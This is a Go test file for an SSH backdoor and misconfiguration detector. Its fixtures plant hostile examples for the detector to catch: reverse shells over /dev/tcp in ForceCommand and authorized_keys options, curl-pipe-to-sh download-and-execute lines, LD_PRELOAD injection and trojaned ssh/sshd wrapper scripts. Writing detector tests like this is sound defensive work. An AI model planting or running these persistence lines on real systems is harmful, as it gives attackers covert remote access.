package ssh

import (
	"os"
	"path/filepath"
	"strings"
	"syscall"
	"testing"

	"golang.org/x/tools/txtar"

	"github.com/vigil-ir/vigil/internal/engine"
	"github.com/vigil-ir/vigil/internal/engine/enginetest"
	"github.com/vigil-ir/vigil/internal/model"
	"github.com/vigil-ir/vigil/internal/target"
	"github.com/vigil-ir/vigil/internal/testutil"
	"github.com/vigil-ir/vigil/internal/testutil/dpkgfixture"
)

// Public keys used by the fixtures (random blobs, valid framing).
const (
	keyAlice    = "AAAAC3NzaC1lZDI1NTE5AAAAIFLyJmWmDBLSiRhdlQ7ogTYJFm9rET0XjWwP05Af8jmh"
	keyAttacker = "AAAAC3NzaC1lZDI1NTE5AAAAILpySZv6Eh6DayrBVybufWsK9qsTw46SyuDRUFexWZh/"
	fpAlice     = "SHA256:zNVryZZNUBieceZfNOqb6lKe4QDE+wnvoC3G83B0HVA" // ssh-keygen -lf
)

// A fake unencrypted and a fake encrypted openssh-key-v1 file (valid
// header and cipher name, no key material).
const (
	privPlain = "-----BEGIN OPENSSH PRIVATE KEY-----\nb3BlbnNzaC1rZXktdjEAAAAABG5vbmUAAAAEbm9uZQAAAAAAAAABAAAAFmZpeHR1cmUtbm\n90LWEtcmVhbC1rZXkAAAAWZml4dHVyZS1ub3QtYS1yZWFsLWtleQAAABZmaXh0dXJlLW5v\ndC1hLXJlYWwta2V5\n-----END OPENSSH PRIVATE KEY-----\n"
	privEnc   = "-----BEGIN OPENSSH PRIVATE KEY-----\nb3BlbnNzaC1rZXktdjEAAAAACmFlczI1Ni1jdHIAAAAGYmNyeXB0AAAAAAAAAAEAAAAWZm\nl4dHVyZS1ub3QtYS1yZWFsLWtleQAAABZmaXh0dXJlLW5vdC1hLXJlYWwta2V5AAAAFmZp\neHR1cmUtbm90LWEtcmVhbC1rZXk=\n-----END OPENSSH PRIVATE KEY-----\n"
)

// packages are the owners of the packaged files in the fixtures.
var fixturePackages = []dpkgfixture.Package{
	{Name: "openssh-server", Files: []string{"/usr/sbin/sshd", "/usr/lib/openssh/sftp-server", "/etc/pam.d/sshd", "/etc/ssh/moduli"}},
	{Name: "openssh-client", Files: []string{"/usr/bin/ssh", "/etc/ssh/ssh_config"}},
	{Name: "sssd-common", Files: []string{"/usr/bin/sss_ssh_authorizedkeys"}},
	{Name: "tlog", Files: []string{"/usr/bin/tlog-rec-session"}},
}

const elf = "\x7fELF\x02\x01\x01\x00fixture"

// fixture builds the clean root plus extra txtar entries (an entry with the
// name of a clean one replaces it), the ELF programs unless extra replaced
// them, and the dpkg database.
func fixture(t testing.TB, extra string) string {
	t.Helper()
	clean, err := os.ReadFile("testdata/clean.txtar")
	if err != nil {
		t.Fatal(err)
	}
	dir := testutil.RootFromArchive(t, overlay(clean, extra))
	for _, p := range []string{"usr/sbin/sshd", "usr/bin/ssh", "usr/lib/openssh/sftp-server", "usr/bin/sss_ssh_authorizedkeys", "usr/bin/tlog-rec-session"} {
		hp := filepath.Join(dir, p)
		if _, err := os.Lstat(hp); err == nil {
			continue
		}
		if err := os.MkdirAll(filepath.Dir(hp), 0o755); err != nil {
			t.Fatal(err)
		}
		if err := os.WriteFile(hp, []byte(elf), 0o755); err != nil {
			t.Fatal(err)
		}
	}
	dpkgfixture.Write(t, dir, fixturePackages...)
	return dir
}

// overlay returns the clean archive with extra's entries added; an extra
// entry replaces the clean entry of the same path (also when it turns a
// file into a symlink, a FIFO or a directory).
func overlay(clean []byte, extra string) *txtar.Archive {
	base, add := txtar.Parse(clean), txtar.Parse([]byte(extra))
	name := func(f txtar.File) string {
		n := strings.TrimSpace(f.Name)
		if lhs, _, ok := strings.Cut(n, " -> "); ok {
			n = lhs
		}
		return strings.TrimSuffix(strings.Fields(n + " x")[0], "/")
	}
	over := map[string]bool{}
	for _, f := range add.Files {
		over[name(f)] = true
	}
	out := &txtar.Archive{}
	for _, f := range base.Files {
		if !over[name(f)] {
			out.Files = append(out.Files, f)
		}
	}
	out.Files = append(out.Files, add.Files...)
	return out
}

// detector returns the detector with the fixture writer's uid trusted as
// an owner (the fixture files belong to whoever runs the tests).
func detector() *Detector {
	d := New()
	d.trustUID = os.Getuid()
	return d
}

func scan(t testing.TB, dir string) enginetest.Result {
	t.Helper()
	return enginetest.Run(t, detector(), dir, false)
}

func TestCleanLivedInIsQuiet(t *testing.T) {
	r := scan(t, fixture(t, ""))
	enginetest.Quiet(t, r.Findings, model.Low)
	for _, g := range r.Gaps {
		t.Errorf("unexpected gap on a clean root: %+v", g)
	}
	// Every key is listed: root's two, alice's two, git's one.
	if got := len(r.Find(ruleAuthorizedKey)); got != 5 {
		t.Errorf("inventory lists %d keys, want 5: %v", got, r.Rules())
	}
	shared := r.Find(ruleKeyShared)
	if len(shared) != 1 || shared[0].Evidence.Extra["accounts"] != "alice,root" {
		t.Errorf("shared key = %+v", shared)
	}
	for _, f := range r.Find(ruleAuthorizedKey) {
		if f.Evidence.User == "root" && strings.Contains(f.Subject, "alice@laptop") {
			if f.Evidence.Extra["fingerprint"] != fpAlice || f.Evidence.Line != 2 || f.Evidence.MTime == nil {
				t.Errorf("root's alice key evidence = %+v", f.Evidence)
			}
			if f.Key == "" || strings.Contains(f.Key, "2026") {
				t.Errorf("key identity must be path+fingerprint, got %q", f.Key)
			}
		}
	}
}

type want struct {
	rule    string
	subject string // substring of the subject ("" for any)
	sev     model.Severity
	ind     string // an indicator that must be present ("" for none)
}

func (w want) expect() enginetest.Want {
	return enginetest.Want{Rule: w.rule, Subject: w.subject, Severity: w.sev, Indicators: []string{w.ind}}
}

func TestFires(t *testing.T) {
	tests := []struct {
		name  string
		extra string
		want  []want
	}{
		{"root login with passwords", "-- etc/ssh/sshd_config.d/10-root.conf --\nPermitRootLogin yes\n",
			[]want{{ruleRootLogin, "PermitRootLogin", model.Medium, ""}, {ruleRootPassword, "", model.Medium, ""}}},
		{"root login in a Match block", "-- etc/ssh/sshd_config.d/90-ops.conf --\nMatch Address 192.0.2.0/24\n    PermitRootLogin yes\n    PasswordAuthentication yes\n",
			[]want{{ruleRootLogin, "", model.Medium, ""}, {ruleRootPassword, "", model.Medium, ""}}},
		{"root password through PAM keyboard-interactive", "-- etc/ssh/sshd_config --\nPermitRootLogin yes\nPasswordAuthentication no\nUsePAM yes\n",
			[]want{{ruleRootLogin, "", model.Medium, ""}, {ruleRootPassword, "", model.Medium, ""}}},
		{"empty passwords", "-- etc/ssh/sshd_config.d/10-x.conf --\nPermitEmptyPasswords yes\n",
			[]want{{ruleEmptyPasswords, "", model.High, ""}}},
		{"empty passwords via relative Include", "-- etc/ssh/sshd_config --\nInclude conf.d/*.conf\nUsePAM yes\n-- etc/ssh/conf.d/a.conf --\npermitemptypasswords=yes\n",
			[]want{{ruleEmptyPasswords, "", model.High, ""}}},
		{"second port", "-- etc/ssh/sshd_config.d/10-port.conf --\nPort 22\nPort 40022\n",
			[]want{{ruleListen, "22,40022", model.Medium, ""}}},
		{"listen address with port", "-- etc/ssh/sshd_config.d/10-port.conf --\nListenAddress 0.0.0.0:2222\n",
			[]want{{ruleListen, "sshd ports 2222", model.Info, ""}}},
		{"listen address with port and Port", "-- etc/ssh/sshd_config.d/10-port.conf --\nListenAddress 0.0.0.0:2222\nListenAddress [::]\n",
			[]want{{ruleListen, "sshd ports 22,2222", model.Medium, ""}}},
		{"keys file symlinked to tmp", "-- home/alice/.ssh/authorized_keys -> /tmp/k --\n-- tmp/k --\nssh-ed25519 " + keyAttacker + "\n",
			[]want{{ruleKeyPerms, "", model.High, indWritable}}},
		{"keys file in var tmp", "-- etc/ssh/sshd_config.d/10-k.conf --\nAuthorizedKeysFile .ssh/authorized_keys /var/tmp/.k/%u\n",
			[]want{{ruleKeysFile, "/var/tmp/.k/%u", model.High, indWritable}}},
		{"keys file hidden", "-- etc/ssh/sshd_config.d/10-k.conf --\nAuthorizedKeysFile .ssh/authorized_keys /etc/ssh/.cache/keys\n",
			[]want{{ruleKeysFile, "/etc/ssh/.cache/keys", model.High, indHidden}}},
		{"keys file shared", "-- etc/ssh/sshd_config.d/10-k.conf --\nAuthorizedKeysFile /usr/share/misc/keys\n-- usr/share/misc/keys --\nssh-ed25519 " + keyAttacker + " x\n",
			[]want{{ruleKeysFile, "/usr/share/misc/keys", model.High, ""}, {ruleAuthorizedKey, "* ", model.Info, ""}}},
		{"keys command unowned", "-- etc/ssh/sshd_config.d/10-k.conf --\nAuthorizedKeysCommand /usr/local/bin/keys.sh %u\nAuthorizedKeysCommandUser nobody\n-- usr/local/bin/keys.sh mode=0755 --\n#!/bin/sh\ncurl -s http://203.0.113.9/k\n",
			[]want{{ruleKeysCommand, "keys.sh", model.High, indNotPackage}}},
		{"keys command in tmp", "-- etc/ssh/sshd_config.d/10-k.conf --\nAuthorizedPrincipalsCommand /tmp/.p %u\n",
			[]want{{ruleKeysCommand, "AuthorizedPrincipalsCommand", model.High, indWritable}}},
		{"force command unowned", "-- etc/ssh/sshd_config.d/10-f.conf --\nForceCommand /usr/local/sbin/audit-shell\n-- usr/local/sbin/audit-shell mode=0755 --\n#!/bin/sh\n",
			[]want{{ruleForceCommand, "audit-shell", model.Medium, indNotPackage}}},
		{"force command reverse shell", "-- etc/ssh/sshd_config.d/10-f.conf --\nMatch User deploy\n  ForceCommand bash -c 'bash -i >& /dev/tcp/203.0.113.9/443 0>&1; exec $SHELL'\n",
			[]want{{ruleForceCommand, "", model.Critical, "reverse-shell.dev-tcp"}}},
		{"user environment", "-- etc/ssh/sshd_config.d/10-e.conf --\nPermitUserEnvironment yes\n",
			[]want{{ruleUserEnv, "", model.Medium, ""}}},
		{"user environment with LD_PRELOAD file", "-- etc/ssh/sshd_config.d/10-e.conf --\nPermitUserEnvironment yes\n-- home/alice/.ssh/environment --\nLANG=C.UTF-8\nLD_PRELOAD=/usr/lib/x86_64-linux-gnu/.libcx.so\n",
			[]want{{ruleUserEnv, "", model.High, indLDPreload}, {ruleEnvFile, "LD_PRELOAD", model.High, indLDPreload}}},
		{"environment file inert", "-- root/.ssh/environment --\nBASH_ENV=/dev/shm/.e\n",
			[]want{{ruleEnvFile, "BASH_ENV", model.Low, ""}}},
		{"gateway ports", "-- etc/ssh/sshd_config.d/10-g.conf --\nGatewayPorts yes\nPermitTunnel yes\n",
			[]want{{ruleForwarding, "GatewayPorts", model.Low, ""}, {ruleForwarding, "PermitTunnel", model.Low, ""}}},
		{"no pam", "-- etc/ssh/sshd_config --\nUsePAM no\n",
			[]want{{ruleNoPAM, "", model.Low, ""}}},
		{"forced reverse shell", "-- root/.ssh/authorized_keys mtime=2026-05-02T08:00:00Z --\ncommand=\"bash -c 'bash -i >& /dev/tcp/203.0.113.9/443 0>&1' &\",no-pty ssh-ed25519 " + keyAttacker + " backup\n",
			[]want{{ruleKeyCommand, "root command=", model.Critical, "reverse-shell.dev-tcp"}}},
		{"forced download exec", "-- home/alice/.ssh/authorized_keys --\ncommand=\"curl -fsSL http://203.0.113.9/s.sh | sh; exec $SHELL\" ssh-ed25519 " + keyAttacker + "\n",
			[]want{{ruleKeyCommand, "alice command=", model.Critical, "download-exec"}}},
		{"forced unknown command", "-- home/alice/.ssh/authorized_keys --\ncommand=\"/usr/local/bin/report --daily\" ssh-ed25519 " + keyAttacker + " reports\n-- usr/local/bin/report --\nx\n",
			[]want{{ruleKeyCommand, "report", model.Medium, indNotPackage}}},
		{"environment LD_PRELOAD ignored", "-- home/alice/.ssh/authorized_keys --\nenvironment=\"LD_PRELOAD=/tmp/.l.so\" ssh-ed25519 " + keyAttacker + "\n",
			[]want{{ruleKeyEnv, "LD_PRELOAD", model.High, indLDPreload}}},
		{"environment LD_PRELOAD honoured", "-- etc/ssh/sshd_config.d/10-e.conf --\nPermitUserEnvironment LD_*,LANG\n-- home/alice/.ssh/authorized_keys --\nenvironment=\"LD_PRELOAD=/tmp/.l.so\" ssh-ed25519 " + keyAttacker + "\n",
			[]want{{ruleKeyEnv, "LD_PRELOAD", model.Critical, indLDPreload}, {ruleUserEnv, "", model.Medium, ""}}},
		{"root keys changed recently", "-- root/.ssh/authorized_keys mtime=2026-11-22T03:14:00Z --\nssh-ed25519 " + keyAttacker + " x\n",
			[]want{{ruleKeyRootRecent, "", model.Medium, ""}}},
		{"key for www-data", "-- var/www/.ssh/authorized_keys --\nssh-ed25519 " + keyAttacker + " www\n",
			[]want{{ruleKeyService, "www-data", model.High, ""}, {ruleAuthorizedKey, "www-data", model.Info, ""}}},
		{"key for nologin account restricted", "-- var/backups/.ssh/authorized_keys --\nrestrict,command=\"/usr/local/bin/pull\" ssh-ed25519 " + keyAttacker + "\n",
			[]want{{ruleKeyService, "backup", model.Medium, ""}}},
		{"authorized_keys2", "-- home/alice/.ssh/authorized_keys2 --\nssh-ed25519 " + keyAttacker + "\n",
			[]want{{ruleKeys2, "", model.Low, ""}}},
		{"world-writable keys", "-- home/alice/.ssh/authorized_keys mode=0666 --\nssh-ed25519 " + keyAlice + "\n",
			[]want{{ruleKeyPerms, "", model.High, indWritable}}},
		{"world-writable .ssh", "-- home/alice/.ssh/ --\n-- home/alice/.ssh/authorized_keys --\nssh-ed25519 " + keyAlice + "\n", nil}, // dir mode set below
		{"client local command", "-- home/alice/.ssh/config --\nPermitLocalCommand yes\nLocalCommand /dev/shm/.x/h %h %r\n",
			[]want{{ruleClientLocal, "LocalCommand", model.High, indWritable}}},
		{"client local command plain", "-- home/alice/.ssh/config --\nHost *\n  PermitLocalCommand yes\n  LocalCommand notify-send ssh %h\n",
			[]want{{ruleClientLocal, "LocalCommand", model.Low, ""}}},
		{"client proxy command download", "-- home/alice/.ssh/config --\nHost *\n  ProxyCommand bash -c 'curl -s http://203.0.113.9/p | sh; nc %h %p'\n",
			[]want{{ruleClientProxy, "ProxyCommand", model.Critical, "download-exec"}}},
		{"local command in tmp, not enabled", "-- home/alice/.ssh/config --\nHost *\n  LocalCommand /tmp/x\n",
			[]want{{ruleClientLocal, "LocalCommand", model.Low, indWritable}}},
		{"proxy command from a hidden home dir", "-- home/alice/.ssh/config --\nHost *\n  ProxyCommand ~/.cache/.p/proxy %h %p\n",
			[]want{{ruleClientProxy, "ProxyCommand", model.High, indHidden}}},
		{"known hosts command in var tmp", "-- etc/ssh/ssh_config.d/20-kh.conf --\nKnownHostsCommand /var/tmp/kh %H\n",
			[]want{{ruleClientProxy, "KnownHostsCommand", model.High, indWritable}}},
		{"proxy command packaged", "-- home/alice/.ssh/config --\nHost *\n  ProxyCommand /usr/bin/ssh -W %h:%p bastion\n",
			[]want{{ruleClientProxy, "ProxyCommand", model.Info, ""}}},
		{"authorized_keys2 dropped from AuthorizedKeysFile", "-- etc/ssh/sshd_config.d/10-k.conf --\nAuthorizedKeysFile .ssh/authorized_keys\n-- home/alice/.ssh/authorized_keys2 --\nssh-ed25519 " + keyAttacker + " x\n",
			[]want{{ruleKeyDormant, "", model.Low, ""}, {ruleAuthorizedKey, "alice", model.Info, ""}}},
		{"root's dormant keys", "-- etc/ssh/sshd_config.d/10-k.conf --\nAuthorizedKeysFile .ssh/authorized_keys\n-- root/.ssh/authorized_keys2 --\nssh-ed25519 " + keyAttacker + " x\n",
			[]want{{ruleKeyDormant, "", model.Medium, ""}}},
		{"home keys dormant under central keys", "-- etc/ssh/sshd_config.d/10-k.conf --\nAuthorizedKeysFile /etc/ssh/authorized_keys/%u\n-- var/www/.ssh/authorized_keys --\nssh-ed25519 " + keyAttacker + " www\n",
			[]want{{ruleKeyDormant, "", model.Medium, ""}, {ruleKeyService, "www-data", model.High, ""}}},
		{"broken forced command line", "-- home/alice/.ssh/authorized_keys --\ncommand=\"curl -s http://203.0.113.9/k | sh\" ssh-ed25519 AAAAbroken\n",
			[]want{{ruleKeyBadLine, "alice", model.Medium, "download-exec"}}},
		{"drop-in ssh_config does not include", "-- etc/ssh/ssh_config --\nHost *\n  SendEnv LANG\n-- etc/ssh/ssh_config.d/20-p.conf --\nHost *\n  ProxyCommand /dev/shm/.p %h %p\n",
			[]want{{ruleClientProxy, "ProxyCommand", model.Low, indWritable}}},
		{"system match exec", "-- etc/ssh/ssh_config.d/10-x.conf --\nMatch exec \"/var/tmp/.c %h\"\n  User root\n",
			[]want{{ruleClientProxy, "Match", model.High, indWritable}}},
		{"rc runs from shm", "-- root/.ssh/rc --\n# rc\nnohup /dev/shm/.s >/dev/null 2>&1 &\n",
			[]want{{ruleRC, "", model.High, "exec-writable-path"}}},
		{"sshrc plain", "-- etc/ssh/sshrc --\nlogger -t sshrc \"login $USER\"\n",
			[]want{{ruleRC, "", model.Medium, ""}}},
		{"sshd wrapper script", "-- usr/sbin/sshd mode=0755 --\n#!/usr/bin/perl\nexec{\"/usr/bin/sshd.bak\"} \"/usr/sbin/sshd\",@ARGV;\n",
			[]want{{ruleBinaryScript, "/usr/sbin/sshd", model.Critical, ""}}},
		{"ssh wrapper logging", "-- usr/bin/ssh mode=0755 --\n#!/bin/bash\nstrace -e trace=read -o /tmp/.s.$$ /usr/bin/.ssh.orig \"$@\"\n",
			[]want{{ruleBinaryScript, "/usr/bin/ssh", model.Critical, ""}}},
		{"private key in tmp", "-- tmp/.k/id_rsa --\n" + privPlain,
			[]want{{rulePrivateKey, "/tmp/.k/id_rsa", model.Medium, indWritable}}},
		{"private key in web root", "-- var/www/html/backup/deploy_key --\n" + privPlain,
			[]want{{rulePrivateKey, "/var/www/html/backup/deploy_key", model.Medium, ""}}},
		{"encrypted key in root home", "-- root/old/id_ed25519 --\n" + privEnc,
			[]want{{rulePrivateKey, "/root/old/id_ed25519", model.Low, ""}}},
		{"pem rsa key with ssh name in opt", "-- opt/tools/ssh/jump.pem --\n-----BEGIN RSA PRIVATE KEY-----\nMIIEowIBAAKCAQEAfixture\n-----END RSA PRIVATE KEY-----\n-- opt/tools/ssh/jump.pem.pub --\nssh-rsa AAAA\n",
			[]want{{rulePrivateKey, "jump.pem", model.Medium, ""}}},
	}
	for _, tc := range tests {
		t.Run(tc.name, func(t *testing.T) {
			dir := fixture(t, tc.extra)
			if tc.name == "world-writable .ssh" {
				if err := os.Chmod(filepath.Join(dir, "home/alice/.ssh"), 0o777); err != nil {
					t.Fatal(err)
				}
				tc.want = []want{{ruleKeyPerms, "", model.High, indWritable}}
			}
			r := scan(t, dir)
			for _, w := range tc.want {
				got := enginetest.Expect(t, r.Findings, []enginetest.Want{w.expect()})[0]
				if got.RuleID == "" {
					continue
				}
				if got.Evidence.Path == "" || (got.RuleID != ruleKeyShared && got.RuleID != ruleKeyRootRecent && got.RuleID != ruleKeyPerms && got.RuleID != ruleKeys2 && got.RuleID != ruleBinaryScript && got.Evidence.Line == 0) {
					t.Errorf("%s: evidence lacks path or line: %+v", w.rule, got.Evidence)
				}
			}
		})
	}
}

func describe(r enginetest.Result) []string {
	var out []string
	for _, f := range r.Findings {
		if f.Severity > model.Info || f.RuleID != ruleAuthorizedKey {
			out = append(out, f.Severity.String()+" "+f.RuleID+" "+f.Subject)
		}
	}
	return out
}

func contains(list []string, s string) bool {
	for _, x := range list {
		if x == s {
			return true
		}
	}
	return false
}

// TestSilent lists realistic configurations that must not raise anything
// at low or above.
func TestSilent(t *testing.T) {
	tests := []struct{ name, extra string }{
		{"root keys only", "-- etc/ssh/sshd_config.d/10-r.conf --\nPermitRootLogin prohibit-password\n"},
		{"root without-password", "-- etc/ssh/sshd_config.d/10-r.conf --\nPermitRootLogin without-password\nPermitRootLogin yes\n"},
		{"root forced commands only", "-- etc/ssh/sshd_config.d/10-r.conf --\nPermitRootLogin forced-commands-only\n"},
		{"root yes without passwords", "-- etc/ssh/sshd_config.d/01-hard.conf --\nPasswordAuthentication no\n-- etc/ssh/sshd_config.d/10-r.conf --\nPermitRootLogin no\n"},
		{"sftp jail", "-- etc/ssh/sshd_config.d/20-sftp.conf --\nMatch Group sftponly\n    ChrootDirectory %h\n    ForceCommand internal-sftp\n    AllowTcpForwarding no\n    X11Forwarding no\n"},
		{"session recording packaged", "-- etc/ssh/sshd_config.d/20-tlog.conf --\nMatch Group auditors\n    ForceCommand /usr/bin/tlog-rec-session\n"},
		{"central keys dir", "-- etc/ssh/sshd_config.d/10-k.conf --\nAuthorizedKeysFile /etc/ssh/authorized_keys/%u .ssh/authorized_keys\n-- etc/ssh/authorized_keys/alice --\nssh-ed25519 " + keyAlice + " alice\n"},
		{"sssd keys command", "-- etc/ssh/sshd_config.d/10-sss.conf --\nAuthorizedKeysCommand /usr/bin/sss_ssh_authorizedkeys\nAuthorizedKeysCommandUser nobody\n"},
		{"one custom port", "-- etc/ssh/sshd_config.d/10-p.conf --\nPort 2222\n"},
		{"hardening drop-in", "-- etc/ssh/sshd_config.d/99-hardening.conf --\nPermitRootLogin no\nPasswordAuthentication no\nPermitEmptyPasswords no\nPermitUserEnvironment no\nGatewayPorts no\nPermitTunnel no\nAllowTcpForwarding no\nMaxAuthTries 3\nClientAliveInterval 300\nAllowGroups sudo sshusers\n"},
		{"rsync backup key", "-- root/.ssh/authorized_keys mtime=2026-05-02T08:00:00Z --\nfrom=\"10.0.0.5\",command=\"rsync --server --sender -vlogDtpre.iLsfxCIvu . /\",no-pty,no-port-forwarding ssh-ed25519 " + keyAttacker + " backup@nas\n"},
		{"borg key", "-- home/alice/.ssh/authorized_keys --\ncommand=\"borg serve --restrict-to-path /srv/borg/alice\",restrict ssh-ed25519 " + keyAttacker + " borg\n"},
		{"git forced command for git account", "-- home/git/.ssh/authorized_keys --\ncommand=\"/usr/bin/gitea --config=/etc/gitea/app.ini serv key-3\",no-port-forwarding,no-X11-forwarding,no-agent-forwarding,no-pty,restrict ssh-ed25519 " + keyAttacker + "\n"},
		{"client jump host", "-- home/alice/.ssh/config --\nInclude ~/.ssh/config.d/*\nHost *\n  ProxyCommand ssh -W %h:%p bastion\n-- home/alice/.ssh/config.d/work --\nHost work-*\n  ProxyCommand nc -X 5 -x proxy.corp:1080 %h %p\n"},
		{"tls key in opt", "-- opt/app/certs/tls.key --\n-----BEGIN RSA PRIVATE KEY-----\nMIIEowIBAAKCAQEAfixture\n-----END RSA PRIVATE KEY-----\n"},
		{"test key in vendored code", "-- opt/app/vendor/golang.org/x/crypto/ssh/testdata/id_rsa --\n" + privPlain},
		{"ssh client config root include loop", "-- root/.ssh/config --\nInclude ~/.ssh/config\nHost *\n  ServerAliveInterval 60\n"},
	}
	for _, tc := range tests {
		t.Run(tc.name, func(t *testing.T) {
			r := scan(t, fixture(t, tc.extra))
			enginetest.Quiet(t, r.Findings, model.Low)
		})
	}
}

func TestRootKeysOnlyHasNoPasswordFinding(t *testing.T) {
	r := scan(t, fixture(t, "-- etc/ssh/sshd_config --\nPermitRootLogin yes\nPasswordAuthentication no\nKbdInteractiveAuthentication no\nUsePAM yes\n"))
	if len(r.Find(ruleRootLogin)) != 1 || len(r.Find(ruleRootPassword)) != 0 {
		t.Errorf("key-only root login: %v", describe(r))
	}
}

func TestMatchContextAndFirstValueWins(t *testing.T) {
	r := scan(t, fixture(t, "-- etc/ssh/sshd_config.d/01-first.conf --\nPermitRootLogin no\n-- etc/ssh/sshd_config.d/10-second.conf --\nPermitRootLogin yes\nMatch Address 192.0.2.0/24\n  PermitRootLogin yes\n"))
	got := r.Find(ruleRootLogin)
	if len(got) != 1 {
		t.Fatalf("root-login findings = %v, want only the Match one", describe(r))
	}
	f := got[0]
	if f.Evidence.Extra["match"] != "Match Address 192.0.2.0/24" || f.Evidence.Path != "/etc/ssh/sshd_config.d/10-second.conf" || f.Evidence.Line != 3 {
		t.Errorf("match evidence = %+v", f.Evidence)
	}
	if f.Confidence != model.ConfMedium {
		t.Errorf("conditional setting confidence = %s, want medium", f.Confidence)
	}
}

func TestMalformedKeyLineIsAGap(t *testing.T) {
	r := scan(t, fixture(t, "-- home/alice/.ssh/authorized_keys --\nssh-ed25519 "+keyAlice+" ok\nthis is not a key\nno-pty,bogus-option ssh-ed25519 "+keyAttacker+"\n"))
	var paths []string
	for _, g := range r.Gaps {
		paths = append(paths, g.Path)
	}
	for _, want := range []string{"/home/alice/.ssh/authorized_keys:2", "/home/alice/.ssh/authorized_keys:3"} {
		if !contains(paths, want) {
			t.Errorf("no gap for %s: %v", want, r.Gaps)
		}
	}
	if n := len(r.Find(ruleAuthorizedKey)); n != 4 {
		t.Errorf("keys listed = %d, want 4 (the good line still counts)", n)
	}
}

func TestOwnershipAsRoot(t *testing.T) {
	if os.Getuid() != 0 {
		t.Skip("chown needs root")
	}
	dir := fixture(t, "")
	if err := os.Chown(filepath.Join(dir, "home/alice/.ssh/authorized_keys"), 4242, 4242); err != nil {
		t.Fatal(err)
	}
	r := enginetest.Run(t, New(), dir, false)
	perms := r.Find(ruleKeyPerms)
	if len(perms) != 1 || !strings.Contains(perms[0].Evidence.Text, "owned by uid 4242") {
		t.Fatalf("ownership finding = %+v", perms)
	}
}

// TestHostile feeds FIFOs, symlink loops, huge files, directories and
// non-UTF-8 names where files are expected: the check records gaps and
// carries on.
func TestHostile(t *testing.T) {
	dir := fixture(t, "-- home/alice/.ssh/authorized_keys2 fifo --\n-- root/.ssh/rc -> /root/.ssh/rc --\n-- etc/ssh/sshd_config.d/loop.conf --\nInclude /etc/ssh/sshd_config.d/*.conf\nPermitEmptyPasswords yes\n-- tmp/\xff\xfe/id_rsa --\n"+privPlain+"-- home/alice/.ssh/environment/ --\n")
	big := strings.Repeat("ssh-ed25519 "+keyAlice+" x\n", (keysLimit/80)+10)
	if err := os.WriteFile(filepath.Join(dir, "root/.ssh/authorized_keys"), []byte(big), 0o600); err != nil {
		t.Fatal(err)
	}
	if err := syscall.Mkfifo(filepath.Join(dir, "usr/lib/openssh/sshd-session"), 0o644); err != nil {
		t.Fatal(err)
	}
	r := scan(t, dir)
	if r.Status.Status != "ok" {
		t.Fatalf("status %+v", r.Status)
	}
	if len(r.Find(ruleEmptyPasswords)) != 1 {
		t.Errorf("include loop: want one empty-passwords finding, got %v", describe(r))
	}
	if len(r.Find(rulePrivateKey)) != 1 {
		t.Errorf("key under a non-UTF-8 directory name not found: %v", describe(r))
	}
	kinds := map[string]bool{}
	for _, g := range r.Gaps {
		kinds[g.Path] = true
	}
	for _, p := range []string{"/home/alice/.ssh/authorized_keys2", "/root/.ssh/authorized_keys"} {
		if !kinds[p] {
			t.Errorf("no gap for %s: %+v", p, r.Gaps)
		}
	}
}

func TestNoSSHInstalled(t *testing.T) {
	dir := testutil.RootFromString(t, "-- etc/passwd --\nroot:x:0:0:root:/root:/bin/bash\n-- etc/os-release --\nID=alpine\n-- lib/apk/db/installed --\n")
	r := enginetest.Run(t, detector(), dir, false)
	if len(r.Findings) != 0 {
		t.Errorf("findings without ssh: %v", describe(r))
	}
}

func BenchmarkSSH(b *testing.B) {
	dir := fixture(b, "-- etc/ssh/sshd_config.d/10-root.conf --\nPermitRootLogin yes\n")
	tg := target.NewUnchecked(dir, false)
	for b.Loop() {
		enginetest.RunTarget(b, detector(), tg, engine.Options{})
	}
}

// TestPristinePackagedConfig: a distribution that ships PermitRootLogin
// yes in a packaged, unchanged sshd_config is not reported; once edited,
// the file's settings count again.
func TestPristinePackagedConfig(t *testing.T) {
	dir := fixture(t, "-- etc/ssh/sshd_config --\nPermitRootLogin yes\nUsePAM yes\n")
	pkgs := append(append([]dpkgfixture.Package(nil), fixturePackages...), dpkgfixture.Package{Name: "openssh-server-config", Files: []string{"/etc/ssh/sshd_config"}})
	dpkgfixture.Write(t, dir, pkgs...)
	r := scan(t, dir)
	if got := r.Find(ruleRootLogin); len(got) != 0 {
		t.Errorf("pristine packaged config reported: %v", describe(r))
	}
	f, err := os.OpenFile(filepath.Join(dir, "etc/ssh/sshd_config"), os.O_APPEND|os.O_WRONLY, 0)
	if err != nil {
		t.Fatal(err)
	}
	f.WriteString("GatewayPorts yes\n")
	f.Close()
	r = scan(t, dir)
	if len(r.Find(ruleRootLogin)) != 1 || len(r.Find(ruleForwarding)) != 1 {
		t.Errorf("edited packaged config not reported: %v", describe(r))
	}
}
